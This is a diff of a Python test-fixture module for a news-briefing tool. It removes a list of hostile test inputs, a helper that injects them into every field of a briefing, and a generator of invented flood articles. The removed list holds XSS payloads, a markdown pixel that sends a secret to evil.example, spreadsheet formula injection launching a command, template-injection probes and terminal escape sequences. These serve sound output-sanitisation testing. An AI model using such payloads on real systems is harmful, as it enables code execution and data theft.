@@ -1,4 +1,4 @@
-"""Briefings for the tests of the reports: the two seed articles read by hand, a hostile one, and large ones."""
+"""A briefing for the tests of the reports: the two seed articles read by hand."""
 
 from __future__ import annotations
 
@@ -25,6 +25,8 @@ from crossbrief.schema import (
 )
 
 ROOT = Path(__file__).resolve().parents[1]
+
+
 _JUNK = re.compile(r'^(\{"email|This website|India buys|Updated |By CGTN)')
 
 
@@ -287,110 +289,4 @@ def seed_briefing() -> Briefing:
         version="0.1.0",
         created="2026-01-02T03:04:05Z",
         input_sha256="c0ffee" * 10 + "abcd",
-    )
-
-
-HOSTILE = (
-    "<script>document.title='owned'</script>",
-    '"><img src=x onerror=alert(1)><svg onload=alert(1)>',
-    "</script><script>alert(1)</script></style></title>-->]]>",
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "https://user:pass@evil.example/?q=1",
-    "![pixel](https://evil.example/?q=secret)",
-    "[click](javascript:alert(1)) <https://evil.example> www.evil.example a@evil.example",
-    "[^a1]: forged\n\n# Forged heading\n\n---\n\n- forged item\n\n```\nfence",
-    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \x07\x08\x00\x7f",
-    "\u202etxt.exe\u2066\u200b\ufeff\u2028\u2029\U000e0041",
-    "=cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+1-1",
-    "-2+3",
-    "\t=1+1",
-    "\uff1d1+1",
-    "{{ 7*7 }} {% raw %} {0.__class__} %s ${x}",
-    "&lt;b&gt; &amp;#60;",
-    "' onmouseover='alert(1)",
-)
-_CLOSED = {
-    "schema_version", "status", "type", "relation", "scope", "severity", "confidence", "match", "standing",
-    "detected_by", "kind", "engine", "support", "author", "judged",
-}  # fmt: skip
-
-
-def poisoned(briefing: Briefing, text: str) -> Briefing:
-    """The same briefing with `text` in place of everything an article, a page or a model can write, ids included."""
-
-    def walk(node: object, key: str = "") -> object:
-        if isinstance(node, dict):
-            return {k: v if k in _CLOSED else walk(v, k) for k, v in node.items()}
-        if isinstance(node, list):
-            return [walk(item, key) for item in node]
-        if isinstance(node, str):
-            return f"{text}{node}" if key in {"id", "article"} else text
-        return node
-
-    return Briefing.model_validate(walk(briefing.model_dump(mode="json")))
-
-
-def large_briefing(articles: int, paragraphs: int = 12) -> Briefing:
-    """Many invented articles on one flood, a discrepancy for every ten of them."""
-    infos = []
-    for n in range(articles):
-        lines = [f"At least {100 + n % 7} people died in the flood of the river Ell, the governor of Ellmar said."]
-        lines += [
-            f"Crew {n}-{k} cleared street number {n * 31 + k * 7} of mud and stones, a spokeswoman of the city said. "
-            f"The mayor visited shelter {n * 13 + k} and promised help within {k + 2} days to all who had lost a home. "
-            f"Rain is expected to ease by the end of the week, the weather service wrote."
-            for k in range(paragraphs)
-        ]
-        label = f"{chr(97 + n // 26 % 26)}{chr(97 + n % 26)}" if n >= 26 else chr(97 + n)
-        infos.append(source("\n".join(lines), label, publisher=f"Paper {n}", date=f"2026-01-{1 + n % 28:02d}"))
-    toll: dict[str, list[Evidence]] = {}
-    for n, info in enumerate(infos):
-        value = str(100 + n % 7)
-        toll.setdefault(value, []).append(cite(info, f"At least {value}", value))
-    item = Discrepancy(
-        id="0" * 10,
-        question="How many people died?",
-        type=DiscrepancyType.FIGURE,
-        relation=Relation.DIVERGENCE,
-        severity="high",
-        safe_wording="at least 100 people",
-        positions=tuple(
-            Position(
-                value=value,
-                normalized=value,
-                unit="people",
-                qualifier="at least",
-                standing="minority",
-                independent_sources=len(evidence),
-                evidence=tuple(evidence),
-            )
-            for value, evidence in toll.items()
-        ),
-    )
-    more = [
-        item.model_copy(
-            update={
-                "id": f"{n:010d}",
-                "question": f"How many people died, as told by group {n}?",
-                "positions": tuple(
-                    p.model_copy(update={"evidence": p.evidence[n : n + 4]}) for p in item.positions[:3]
-                ),
-            }
-        )
-        for n in range(1, articles // 10)
-    ]
-    last = len(infos) - 1
-    points = tuple(
-        Statement(text=e.quote, evidence=(e, cite(infos[last], f"Crew {last}-{k} cleared")), independent_sources=2)
-        for k, e in enumerate(cite(infos[0], f"Crew 0-{k} cleared") for k in range(6))
-    )
-    return Briefing(
-        set_id="flood",
-        headline="Flood of the river Ell",
-        key_points=points,
-        discrepancies=(item, *more),
-        articles=tuple(infos),
     )
